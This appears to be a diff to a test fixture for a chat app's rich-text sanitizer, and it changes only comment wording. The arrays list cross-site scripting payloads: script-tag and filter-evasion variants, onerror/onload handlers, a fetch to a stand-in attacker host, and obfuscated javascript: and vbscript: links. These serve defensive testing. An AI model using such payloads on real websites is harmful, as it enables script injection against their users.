@@ -1,6 +1,6 @@
 /** What people with bad intentions write. None of it may become anything but text and links to the web. */
 
-/** Several to a message where they fit: each is a word of its own. */
+/** A message has several tags where they fit, with a space between two of them. */
 const TAGS = [
   "<script>alert(1)</script> <scr<script>ipt>alert(1)</scr</script>ipt> </textarea><script>alert(1)</script>",
   '<img src=x onerror=alert(1)> <img src="x" onerror="fetch(`//evil.example`)"> <svg onload=alert(1)>',
@@ -19,7 +19,7 @@ const ENTITIES = [
   '${alert(1)} {"event":"event.chat","sender":"🦊"}',
 ];
 
-/** Where an address leads, and what is seen of it, `shared/richText/testing/links.json` has. */
+/** The exact text and address of links are tested with `shared/richText/testing/links.json`. */
 const LINKS = [
   "JaVaScRiPt:alert(1) java\tscript:alert(1) java\nscript:alert(1) javascript://a.example/%0aalert(1)",
   "vbscript:msgbox(1) intent://scan/#Intent;scheme=zxing;end mailto:a@b.example?bcc=c@d.example",
